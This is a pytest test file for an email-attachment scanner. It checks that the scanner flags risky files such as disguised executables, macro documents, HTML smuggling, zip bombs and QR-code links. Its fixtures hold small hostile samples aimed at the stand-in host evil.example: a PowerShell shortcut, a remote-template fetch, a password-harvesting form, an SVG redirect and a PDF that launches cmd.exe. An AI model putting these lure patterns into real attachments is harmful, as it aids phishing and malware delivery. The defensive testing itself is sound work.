"""Files that come with a mail are looked into, never opened."""

import base64
import gzip
import io
import random
import zipfile

import pytest
from PIL import Image

from tests.mail import made
from tojimari.mail.acquaintances import Known
from tojimari.mail.attachments.archives import in_zip
from tojimari.mail.attachments.budget import ALL_BYTES, Budget
from tojimari.mail.attachments.kinds import TOLD_BY, kind_of
from tojimari.mail.reading import read_file
from tojimari.mail.verdict import judge


def traits(data: bytes) -> set[str]:
    [found] = read_file(data)
    return {trait.id for each in found.attachments for trait in each.traits}


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("invoice.exe", made.PROGRAM, {"program"}),
        ("invoice.pdf.exe", made.PROGRAM, {"program", "two_endings"}),
        ("photo.jpg", made.PROGRAM, {"program", "other_than_named"}),
        ("見積\u202efdp.exe", made.PROGRAM, {"program", "name_reversed"}),
        ("invoice.pdf" + " " * 60 + ".scr", made.PROGRAM, {"program", "two_endings", "name_hidden_end"}),
        ("a.js", b"var x = 1", {"script"}),
        ("a.hta", b"<html><script>1</script></html>", {"script"}),
        ("請求書.zip", made.encrypted_zip(), {"encrypted"}),
        ("請求書.zip", made.zipped(seikyu__pdf__exe=made.PROGRAM), {"program", "two_endings"}),
        ("a.zip", made.zipped(inner__zip=made.zipped(a__js=b"x")), {"script"}),
        ("a.iso", made.disk_image("setup.exe", made.PROGRAM), {"disk_image", "program"}),
        ("a.lnk", made.shortcut("/c powershell -enc AAAA"), {"shortcut", "starts_program"}),
        ("a.url", b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n", {"shortcut"}),
        ("a.html", made.SMUGGLING, {"smuggling", "scripted_page"}),
        ("a.svg", b'<svg xmlns="x"><script>location.href="https://evil.example"</script></svg>', {"svg_script"}),
        ("login.htm", b"<html><form action='https://evil.example/p'><input type=password></form></html>", {"password_form"}),
        ("a.one", made.onenote(made.PROGRAM), {"embedded_object", "program"}),
        ("a.one", made.onenote(b"@echo off\r\npowershell x"), {"embedded_object"}),
        ("a.docm", made.openxml(word__vbaProject=b"x"), {"macro"}),
        ("a.docx", made.openxml(**{"word__vbaProject.bin": b"x"}), {"macro"}),
        ("a.xlsx", made.openxml(**{"xl__macrosheets__sheet1.xml": b"x"}), {"macro"}),
        ("a.docx", made.openxml(**{"word___rels__settings.xml.rels": b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'}), {"fetches_when_opened"}),
        ("a.rtf", rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}", {"embedded_object"}),
        ("a.pdf", made.pdf(opens="/OpenAction<</S/Launch/F(cmd.exe)>>"), {"pdf_starts_program"}),
        ("a.pdf", made.pdf(opens="/OpenAction<</S/#4aavaScript/JS(x)>>"), {"pdf_script"}),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40, {"not_looked_into"}),
        ("a.pdf", made.pdf("https://shop.example"), set()),
        ("a.csv", "品名,数\n".encode("cp932"), set()),
        ("a.docx", made.openxml(**{"word__document.xml": b"<w/>"}), set()),
        ("a.png", made.code("hello"), set()),
        ("a.zip", made.zipped(a__txt=b"x"), set()),
    ],
)  # fmt: skip
def test_what_is_of_note_in_a_file(name, data, expected):
    assert traits(made.attached(name, data)) == expected


NAMELESS = base64.b64decode("UEsDBBTx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8WKgCAAAUEsBAhQDFAAAAAgAwwN+XYMW3IwDAAAAAQAAAAQAAAAAAAAAAAAAAIABAABhAAAuanNQSwECFAMUAAAACADDA35dLZ7VcgcAAAAAQAAABQAAAAAAAAAAAAAAgAElAAAAYi5leGVQSwUGAAAAAAIAAgBlAAAATwAAAAAA")  # fmt: skip
"""A zip as a fuzzer left it, the first of whose entries has no name."""


def test_a_zip_whose_entry_has_no_name_hides_no_other():
    [found] = read_file(made.attached("a.zip", NAMELESS))
    assert {each.name for each in found.attachments} == {"a.zip", "", "b.exe"}
    assert judge(found, Known(), {}).level == "dangerous"


def test_a_file_that_unpacks_to_far_too_much_is_said():
    bomb = gzip.compress(b"\x00" * 200_000_000)
    assert traits(made.attached("a.gz", bomb)) == {"too_large"}


@pytest.mark.parametrize(
    ("name", "data", "place"),
    [
        ("a.png", made.code("https://evil.example/qr"), "picture"),
        ("a.pdf", made.pdf("https://evil.example/pdf"), "attachment"),
        ("a.zip", made.zipped(a__pdf=made.pdf("https://evil.example/pdf")), "attachment"),
        ("a.url", b"[InternetShortcut]\r\nURL=https://evil.example\r\n", "attachment"),
        ("a.html", b"<html><a href='https://evil.example'>x</a></html>", "link"),
    ],
)
def test_where_a_file_leads_is_where_the_mail_leads(name, data, place):
    [found] = read_file(made.attached(name, data))
    assert [(each.host, each.place) for each in found.links] == [("evil.example", place)]


def test_names_in_a_zip_of_japanese_windows_are_read():
    data = made.zipped(a__exe=made.PROGRAM)
    data = data.replace(b"a.exe", "請求.exe".encode("cp932")[-5:])
    [found] = read_file(made.attached("a.zip", data))
    assert found.attachments[1].within == ("a.zip",)
    assert found.attachments[1].kind == "program"


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04" + b"\x00" * 50,
        b"%PDF-1.7\nnothing",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 600,
    ],
)
def test_what_cannot_be_read_is_said(data):
    [found] = read_file(made.attached("a.bin", data))
    assert [each.id for each in found.gaps] == ["damaged_attachment"]


def _photo(sides: tuple[int, int], kind: str) -> bytes:
    picture = Image.new("L", sides, 255)
    code = Image.open(io.BytesIO(made.code("https://evil.example/q"))).convert("L")
    picture.paste(code.resize((1600, 1600)), (300, 300))
    out = io.BytesIO()
    picture.save(out, kind)
    return out.getvalue()


def test_the_code_in_a_large_photo_is_read():
    [found] = read_file(made.attached("a.jpg", _photo((8000, 6000), "JPEG"), "image/jpeg"))
    assert [each.host for each in found.links] == ["evil.example"]
    assert found.gaps == ()


def test_a_picture_too_large_to_look_at_is_never_fine():
    for data in (_photo((8000, 6000), "PNG"), made.endless_picture()):
        [found] = read_file(made.attached("a.png", data, "image/png"))
        assert [each.id for each in found.gaps] == ["too_large_attachment"]
        assert judge(found, Known(), {}).level == "unknown"


def test_of_what_is_told_by_its_beginning_the_rest_is_counted_and_let_go():
    noise = random.Random(18).randbytes(300_000)
    for name, data, whole in (
        ("a.bin", noise, False),
        ("a.exe", made.PROGRAM + noise, False),
        ("a.pdf", b"%PDF-1.4\n" + noise, True),
        ("a.iso", noise, True),
        ("small.bin", noise[:1_000], True),
    ):
        budget = Budget()
        archive = zipfile.ZipFile(io.BytesIO(made.zipped(**{name.replace(".", "__"): data})))
        [entry] = in_zip(archive, budget)
        assert (entry.data == data) is whole, name
        assert entry.data is not None
        assert data.startswith(entry.data)
        assert len(entry.data) >= min(len(data), TOLD_BY)
        assert entry.size == len(data)
        assert budget._bytes == ALL_BYTES - len(data)
        assert kind_of(name, entry.data) == kind_of(name, data)
